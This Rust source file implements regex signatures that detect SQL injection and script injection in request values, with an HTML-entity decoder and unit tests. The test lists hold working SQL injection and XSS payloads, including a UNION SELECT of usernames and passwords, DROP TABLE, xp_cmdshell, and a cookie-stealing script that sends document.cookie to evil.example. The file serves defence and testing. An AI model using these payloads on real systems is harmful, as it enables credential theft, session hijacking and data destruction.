//! Injection signatures: SQL injection and script (XSS) injection, as two
//! sets of case-insensitive regular expressions over one decoded value.
//!
//! No maintained Rust port of a tokenising detector (libinjection) was
//! available, so this is a documented rule set. Each pattern needs SQL or
//! HTML *syntax* around a keyword, never a bare word, so prose passes:
//! "O'Brien", "select the plan that suits you", "x < y" and "<3" are fine,
//! while `' OR '1'='1`, `UNION SELECT`, `AND 1234=1234`, `<script>` and
//! `<img src=x onerror=…>` are not. The tests below hold both sides; the
//! integration tests add sqlmap's payloads and a list of common attack
//! strings.
//!
//! `regex` runs in linear time, so a hostile value cannot make matching slow.
//!
//! The patterns are matched over the value's bytes with ASCII semantics:
//! `\w`, `\s` and `\b` are the ASCII classes, case folding is ASCII, and a
//! negated class such as `[^)]` steps over any byte. The syntax they look
//! for is ASCII in every parser that acts on it (SQL keywords and
//! operators, HTML tag and attribute names, URL schemes), so nothing is
//! lost, and a non-ASCII character next to a keyword no longer hides it
//! (`éunion select` is a word boundary). Unicode classes and Unicode case
//! folding made the compiled sets about five times larger (1.6 MB against
//! 0.35 MB resident after start-up, 3.3 MB against 1.0 MB at the peak of
//! compiling them) for no attack they would catch.

use regex::bytes::{RegexSet, RegexSetBuilder};

/// SQL injection: tautologies after a closing quote, UNION queries, stacked
/// statements, comment truncation, time delays, catalogue probes, boolean
/// probes and sub-selects.
const SQL: &[&str] = &[
    // ' OR '1'='1   " or ""="   1' AND 1=1
    r#"['"`]\s*\)*\s*(or|and|xor|\|\||&&)\s*(not\s+)?\(*\s*[\w'"`]+\s*(=|<>|!=|<=?|>=?|\blike\b|\bis\b|\bbetween\b|\bin\b|\brlike\b|\bregexp\b)"#,
    // ' or true--   ' or 1 #
    r#"['"`]\s*\)*\s*(or|and)\s+(true|false|null|\d+)\s*(--|#|/\*|;|$)"#,
    // UNION [ALL] SELECT
    r"\bunion\b[\s(]+((all|distinct)[\s(]+)?select\b",
    // ; DROP TABLE …
    r";\s*(drop|alter|truncate|create|rename)\s+(table|database|schema|user|index|view|procedure|function|trigger)\b",
    // ; INSERT INTO / DELETE FROM / UPDATE x SET / SELECT *|a,b|f() FROM /
    // SELECT f( / EXEC / SHUTDOWN. A single word after SELECT is left alone:
    // "…; select one from the list" is prose.
    r#";\s*(insert\s+into|delete\s+from|update\s+[\w.\[\]"`]+\s+set\b|select\s+(\*|[\w.@]+(\s*,\s*[\w.@()]+)+)\s+from\b|select\s+\w+\s*\(|exec(ute)?\s+(xp_|sp_|master\.)|shutdown\b|declare\s+@)"#,
    // ' or (EXISTS …   ' (select top 1 …   '||UTL_HTTP.REQUEST(…   1;SELECT *
    r#"['"`]\s*\)*\s*(or|and)\s*\(\s*(exists|select)\b"#,
    r#"['"`]\s*\(\s*select\b"#,
    r#"['"`]\s*\|\|\s*[a-z_]+\s*(\.\s*[a-z_]+|\()"#,
    r";\s*select\s+\*",
    // admin'--   1' #   x' /*
    r#"['"`]\s*\)*\s*(--|#|/\*)"#,
    // time delays and dangerous functions
    r"\b(sleep|pg_sleep)\s*\(\s*\d",
    r"\bbenchmark\s*\(\s*\d+\s*,",
    r"\bwaitfor\s+(delay|time)\s+'",
    r"\b(load_file|extractvalue|updatexml|xp_cmdshell|sp_executesql|sp_oacreate|dbms_pipe\.receive_message|utl_inaddr\.\w+|utl_http\.\w+)\s*\(",
    r"\bxp_cmdshell\b",
    // catalogue probes
    r"\b(information_schema|sysobjects|syscolumns|sqlite_master|sqlite_schema|pg_catalog|pg_shadow|mysql\.user|all_tables|user_tables|msysaccessobjects)\b",
    r"@@(version|datadir|hostname|servername|basedir)\b",
    // AND 1234=1234   OR NOT 5=6   ) AND (4=4
    r"(\b(and|or|xor)|&&|\|\|)\s+(not\s+)?\(*\s*\d+\s*(=|<>|!=|<=?|>=?)\s*\(*\s*\d+",
    // AND 'abc'='abc
    r#"\b(and|or)\s+(not\s+)?'[^']*'\s*(=|<>|!=|\blike\b)\s*'"#,
    // AND 1234=CAST(…) / =(SELECT …)
    r"\b(and|or)\s+\d+\s*(=|<>)\s*(cast|convert|\(\s*select)\b",
    // (SELECT … FROM / CASE / CHAR …)
    r"\(\s*select\b[^)]{0,200}?\b(from|case|when|char|chr|concat|count|null|sleep|version|database|user)\b",
    r"\(\s*case\s+when\b",
    // ORDER BY 5--
    r"\border\s+by\s+\d+\s*(--|#|/\*)",
    // CHAR(113,120)   CONCAT(…)   INTO OUTFILE
    r"\b(char|chr|nchar)\s*\(\s*\d+\s*(,\s*\d+\s*)*\)",
    r"\bconcat(_ws)?\s*\(",
    r"\binto\s+(out|dump)file\b",
];

/// The names in [`SQL`] that a value of ASCII letters and digits alone can
/// match: `\b` around a word of word characters matches such a value only
/// when the value is the word.
const BARE_SQL_WORDS: &[&str] = &["sysobjects", "syscolumns", "msysaccessobjects"];

/// Script injection: script-capable elements, event-handler attributes,
/// script URLs in attribute or URL position, and DOM sinks.
const SCRIPT: &[&str] = &[
    r"<\s*/?\s*(script|iframe|frame|frameset|object|embed|applet|base|meta|link|style|svg|math|xml|template|noscript|portal|xss)\b",
    // <img src=x onerror=…>   <x onclick=…>   <svg/onload=…>
    r#"<\s*[a-z][\w:-]*\b[^>]*?[\s/"'](on[a-z]{3,})\s*="#,
    // a value that is a script URL, or an attribute set to one
    r"^\s*(javascript|vbscript|livescript)\s*:\S",
    r#"(=|\burl\s*\()\s*["']?\s*(javascript|vbscript|livescript)\s*:"#,
    r"(javascript|vbscript)\s*:\s*[\w.$]+\s*\(",
    r#"(=|\burl\s*\()\s*["']?\s*data\s*:\s*(text/html|[^,]*;base64)"#,
    r"\b(document\s*\.\s*(cookie|domain|write|location)|window\s*\.\s*location|\.\s*innerhtml\s*=|string\s*\.\s*fromcharcode|constructor\s*\.\s*constructor)\b",
    r"\b(srcdoc|formaction)\s*=",
    // breaking out of a script string: ";alert(1);//
    r#"['"]\s*[;)]\s*(alert|confirm|prompt|eval)\s*\("#,
];

/// The compiled signature sets.
#[derive(Debug, Clone)]
pub struct Signatures {
    sql: RegexSet,
    script: RegexSet,
}

fn build(patterns: &[&str]) -> Result<RegexSet, regex::Error> {
    RegexSetBuilder::new(patterns)
        .case_insensitive(true)
        .unicode(false)
        .size_limit(32 * 1024 * 1024)
        .build()
}

impl Signatures {
    /// Compiles both sets.
    pub fn new() -> Result<Self, regex::Error> {
        Ok(Self {
            sql: build(SQL)?,
            script: build(SCRIPT)?,
        })
    }

    /// Whether `value` looks like SQL injection. SQL comments (`/**/`) are
    /// read as the spaces they stand for.
    pub fn sql(&self, value: &str) -> bool {
        if value.len() < 4 {
            return false;
        }
        if value.bytes().all(|b| b.is_ascii_alphanumeric()) {
            // Most values a request carries (path segments, ids, names)
            // are letters and digits alone, and every pattern but the bare
            // catalogue names needs a quote, bracket, operator, space, `_`
            // or `.`. Such a value matches only if it is one of those
            // names (a test holds the two answers equal).
            return BARE_SQL_WORDS.iter().any(|w| value.eq_ignore_ascii_case(w));
        }
        if value.contains("/*") {
            let flattened = strip_comments(value);
            return self.sql.is_match(flattened.as_bytes()) || self.sql.is_match(value.as_bytes());
        }
        self.sql.is_match(value.as_bytes())
    }

    /// Whether `value` looks like script injection. Character references
    /// (`&#106;`, `&#x6A`, `&colon;`) and the tabs and line breaks browsers
    /// drop inside URLs (`jav&#x09;ascript:`) are read as the browser
    /// reads them.
    pub fn script(&self, value: &str) -> bool {
        let candidate = |v: &str| {
            v.len() >= 6
                && v.contains(['<', ':', '=', '.', '('])
                && self.script.is_match(v.as_bytes())
        };
        if candidate(value) {
            return true;
        }
        if value.contains('&') || value.contains(['\t', '\n', '\r']) {
            let decoded = html_decode(value);
            return decoded != value && candidate(&decoded);
        }
        false
    }
}

/// Decodes HTML character references (decimal and hex, with or without
/// the closing `;`, and the named ones that matter for markup and URLs)
/// and drops tabs and line breaks.
fn html_decode(value: &str) -> String {
    const NAMED: &[(&str, char)] = &[
        ("colon", ':'),
        ("tab", '\t'),
        ("newline", '\n'),
        ("lpar", '('),
        ("rpar", ')'),
        ("quot", '"'),
        ("apos", '\''),
        ("lt", '<'),
        ("gt", '>'),
        ("amp", '&'),
        ("sol", '/'),
        ("equals", '='),
    ];
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (decoded, used) = if let Some(num) = after.strip_prefix('#') {
            let (hex, digits) = match num.strip_prefix(['x', 'X']) {
                Some(h) => (true, h),
                None => (false, num),
            };
            let len = digits
                .bytes()
                .take_while(|b| {
                    if hex {
                        b.is_ascii_hexdigit()
                    } else {
                        b.is_ascii_digit()
                    }
                })
                .count();
            let code = u32::from_str_radix(&digits[..len], if hex { 16 } else { 10 }).ok();
            match code.and_then(char::from_u32) {
                Some(c) if len > 0 => {
                    let prefix = 1 + usize::from(hex);
                    let semi = usize::from(digits[len..].starts_with(';'));
                    (Some(c), prefix + len + semi)
                }
                _ => (None, 0),
            }
        } else {
            NAMED
                .iter()
                .find(|(name, _)| {
                    after
                        .get(..name.len())
                        .is_some_and(|p| p.eq_ignore_ascii_case(name))
                })
                .map_or((None, 0), |(name, c)| {
                    let semi = usize::from(after[name.len()..].starts_with(';'));
                    (Some(*c), name.len() + semi)
                })
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = &after[used..];
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out.retain(|c| !matches!(c, '\t' | '\n' | '\r'));
    out
}

/// Replaces `/* … */` (including MySQL's `/*! … */`) with a space.
fn strip_comments(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        out.push(' ');
        let after = &rest[start + 2..];
        match after.find("*/") {
            Some(end) => {
                // Keep the body of a MySQL executable comment.
                if let Some(body) = after[..end].strip_prefix('!') {
                    out.push_str(body.trim_start_matches(|c: char| c.is_ascii_digit()));
                    out.push(' ');
                }
                rest = &after[end + 2..];
            }
            None => {
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    #[test]
    fn values_of_letters_and_digits_get_the_answer_the_full_set_gives() {
        let sigs = Signatures::new().unwrap();
        // Every run of letters and digits in the patterns' own text, so a
        // bare word added to the set later shows up here, alone, in other
        // cases, glued to more letters and digits, and beside numbers.
        let mut words: Vec<String> = SQL
            .iter()
            .flat_map(|p| p.split(|c: char| !c.is_ascii_alphanumeric()))
            .filter(|w| !w.is_empty())
            .map(str::to_owned)
            .collect();
        words.extend(BARE_SQL_WORDS.iter().map(|w| (*w).to_owned()));
        words.extend(
            [
                "select", "union", "fmi", "vLatest", "records", "1234", "Bench",
            ]
            .map(str::to_owned),
        );
        let mut values = Vec::new();
        for w in &words {
            values.push(w.clone());
            values.push(w.to_ascii_uppercase());
            values.push(format!("x{w}"));
            values.push(format!("{w}1"));
            values.push(format!("{w}{w}"));
            values.push(format!("12{}", w.to_ascii_uppercase()));
        }
        let mut checked = 0;
        for v in values
            .iter()
            .filter(|v| v.bytes().all(|b| b.is_ascii_alphanumeric()))
        {
            assert_eq!(
                sigs.sql(v),
                sigs.sql.is_match(v.as_bytes()),
                "`{v}`: the shortcut and the full set disagree"
            );
            checked += 1;
        }
        assert!(checked > 200, "{checked} values checked");
        assert!(sigs.sql("SysObjects") && !sigs.sql("sysobjects2"));
    }

    /// Attack strings in the forms common attack lists use.
    pub(crate) const SQL_ATTACKS: &[&str] = &[
        "' OR '1'='1",
        "' or 1=1--",
        "\" or \"\"=\"",
        "admin'--",
        "admin' #",
        "1' AND 1=1 AND 'a'='a",
        "1 AND 1234=1234",
        "1) AND 4929=4929 AND (1350=1350",
        "1 OR NOT 3761=3761",
        "1' UNION SELECT username, password FROM users--",
        "-1 UNION ALL SELECT NULL,NULL,NULL-- -",
        "1 uNiOn/**/SeLeCt 1,2,3",
        "1/*!50000UNION*//*!50000SELECT*/1,2",
        "1; DROP TABLE users",
        "1'; exec xp_cmdshell('dir')--",
        "1 AND SLEEP(5)",
        "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)--",
        "1; WAITFOR DELAY '0:0:5'--",
        "1 AND BENCHMARK(5000000,MD5(1))",
        "1' AND pg_sleep(5)--",
        "1 AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))",
        "1 AND 1234=CAST((CHR(113)||CHR(120)) AS NUMERIC)",
        "' UNION SELECT table_name FROM information_schema.tables--",
        "1 AND @@version > 0",
        "1 ORDER BY 10--",
        "1 AND (SELECT COUNT(*) FROM users) > 0",
        "x' AND 'abc'='abc",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "' or true--",
        "'; insert into users values('a','b')--",
        "1' INTO OUTFILE '/tmp/x'--",
        "SELECT name FROM sqlite_master",
        "' or (EXISTS)",
        "' (select top 1",
        "'||UTL_HTTP.REQUEST",
        "1;SELECT *",
    ];

    pub(crate) const SCRIPT_ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "\"><script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert('x')>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "javascript:alert(1)",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<input autofocus onfocus=alert(1)>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "\\\";alert('XSS');//",
        "<details open ontoggle=alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
        "<x onclick=alert(1)>click",
        "<video><source onerror=\"alert(1)\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "{{constructor.constructor('alert(1)')()}}",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<marquee onstart=alert(1)>",
        "';document.location='https://evil.example/?c='+document.cookie;//",
    ];

    /// Legitimate text that must pass.
    pub(crate) const LEGITIMATE: &[&str] = &[
        "O'Brien",
        "Renée d'Arc-Ødegård",
        "It's 5 o'clock, isn't it?",
        "D'Angelo & Sons' \"best\" offer",
        "x < y and y > z",
        "I <3 Kura",
        "a<b",
        "Please select the plan that suits you from the list below.",
        "Select one: union members get a discount",
        "We'll update the prices; select a new plan from Monday.",
        "Drop me a line; I'll create an account",
        "Tom & Jerry",
        "100% sure -- really",
        "The 'and' and 'or' keywords",
        "JavaScript: The Good Parts",
        "Order by 5pm to get it tomorrow",
        "email me at a.b@example.com",
        "日本語のテキスト 🎉 Zoë Ünïcødé",
        "SELECT is a keyword in SQL, as is FROM.",
        "sleep well",
        "char (a letter)",
        "2 < 3 > 1",
        "The formula is a=b+c",
        "https://example.com/path?x=1&y=2",
        "Comment: /* not code */ just text",
        "Dinner 'n' drinks -- see you there",
        "Fish &amp; Chips &#38; more &lt;3",
        "Line one\nLine two\tand a tab: see the notes",
        "He said \"yes\"; alerting the team (later)",
    ];

    #[test]
    fn attacks_are_recognised() {
        let s = Signatures::new().unwrap();
        for a in SQL_ATTACKS {
            assert!(s.sql(a), "SQL attack not recognised: {a}");
        }
        for a in SCRIPT_ATTACKS {
            assert!(s.script(a) || s.sql(a), "script attack not recognised: {a}");
        }
    }

    #[test]
    fn legitimate_text_passes() {
        let s = Signatures::new().unwrap();
        for l in LEGITIMATE {
            assert!(!s.sql(l), "false SQL positive: {l}");
            assert!(!s.script(l), "false script positive: {l}");
        }
    }

    #[test]
    fn non_ascii_text_around_an_attack_does_not_hide_it() {
        let s = Signatures::new().unwrap();
        for a in [
            "Zoë' OR 'é'='é",
            "日本' UNION SELECT password FROM users--",
            "éunion select 1,2",
            "x' AND (SELECT é FROM users)",
            "Ünïcødé;DROP TABLE users",
        ] {
            assert!(s.sql(a), "SQL attack not recognised: {a}");
        }
        for a in [
            "é<script>alert(1)</script>",
            "<img src=x onerror=alert('é')>",
            "<a href=\"javascript:\u{a0}alert(1)\">é</a>",
        ] {
            assert!(s.script(a), "script attack not recognised: {a}");
        }
    }

    #[test]
    fn comments_read_as_spaces() {
        assert_eq!(strip_comments("a/**/b"), "a b");
        assert_eq!(strip_comments("1/*!50000UNION*/x"), "1 UNION x");
        assert_eq!(strip_comments("open /* end"), "open  ");
    }
}
